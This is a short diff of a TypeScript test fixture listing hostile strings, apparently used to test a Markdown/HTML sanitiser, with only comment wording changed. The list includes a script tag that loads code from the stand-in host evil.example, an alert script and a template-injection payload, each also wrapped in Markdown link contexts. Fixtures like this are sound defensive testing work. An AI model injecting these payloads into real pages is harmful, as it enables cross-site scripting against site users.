@@ -1,4 +1,4 @@
-// Texts that would act in a page which believed them: raw HTML, links, and what parsers stumble over.
+// Texts that try to run code when shown: HTML, links and parser edge cases.
 export const HOSTILE: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -72,7 +72,7 @@ export const HOSTILE: readonly string[] = [
   '{{constructor.constructor("alert(1)")()}}',
 ];
 
-/** The same again where Markdown lets an author put words: three hundred and more. */
+/** Each text in every Markdown context, three hundred and more. */
 export const HOSTILE_EVERYWHERE: readonly string[] = HOSTILE.flatMap((text) => [
   text,
   `[${text}](${text})`,
